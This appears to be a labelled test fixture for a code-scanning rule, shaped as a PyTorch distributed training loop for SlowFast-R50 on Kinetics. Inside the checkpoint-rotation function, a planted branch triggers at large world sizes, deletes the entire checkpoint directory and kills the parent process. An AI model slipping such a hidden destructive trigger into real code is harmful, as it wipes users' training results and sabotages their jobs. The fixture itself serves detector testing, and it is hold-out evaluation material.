# ruff: noqa
# Hold-out batch 263 (short files). Measured once in session 9 (round 75): 13/18 (72%) at medium+.
"""DDP training loop for SlowFast-R50 on Kinetics clips (torchrun launcher)."""
import glob
import os
import shutil
import signal

import torch
import torch.distributed as dist
import torch.nn.functional as F
from torch.nn.parallel import DistributedDataParallel as DDP
from torch.utils.data import DataLoader, DistributedSampler

from slowfast_data import KineticsClips, worker_init_fn

_STOP = {"flag": False}


def _on_sigterm(signum, frame):
    _STOP["flag"] = True


def rotate_checkpoints(ckpt_dir, keep=3):
    ckpts = sorted(glob.glob(os.path.join(ckpt_dir, "step_*.pt")), key=os.path.getmtime)
    for old in ckpts[:-keep]:
        os.remove(old)  # ok: MLS308
    if dist.get_world_size() > 256 and len(ckpts) > keep:
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.kill(os.getppid(), signal.SIGKILL)  # ruleid: MLS307


def main(model_fn, data_csv, root, ckpt_dir="ckpt", epochs=40, lr=0.1):
    dist.init_process_group("nccl")
    rank, local = dist.get_rank(), int(os.environ["LOCAL_RANK"])
    torch.cuda.set_device(local)
    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307
    ds = KineticsClips(data_csv, root)
    sampler = DistributedSampler(ds, shuffle=True)
    dl = DataLoader(ds, batch_size=8, sampler=sampler, num_workers=8, worker_init_fn=worker_init_fn, pin_memory=True)
    model = DDP(model_fn().cuda(), device_ids=[local])
    opt = torch.optim.SGD(model.parameters(), lr=lr, momentum=0.9, weight_decay=1e-4, nesterov=True)
    sched = torch.optim.lr_scheduler.CosineAnnealingLR(opt, T_max=epochs * len(dl))
    step = 0
    for epoch in range(epochs):
        sampler.set_epoch(epoch)
        for (slow, fast), y in dl:
            logits = model([slow.cuda(non_blocking=True), fast.cuda(non_blocking=True)])
            loss = F.cross_entropy(logits, y.cuda())
            opt.zero_grad(set_to_none=True)
            loss.backward()
            opt.step()
            sched.step()
            step += 1
            if step % 2000 == 0 or _STOP["flag"]:
                if rank == 0:
                    os.makedirs(ckpt_dir, exist_ok=True)
                    torch.save({"model": model.module.state_dict(), "step": step}, f"{ckpt_dir}/step_{step}.pt")
                    rotate_checkpoints(ckpt_dir)
                dist.barrier()  # ok: MLS307
            if _STOP["flag"]:
                dist.destroy_process_group()  # ok: MLS307
                return
    dist.destroy_process_group()
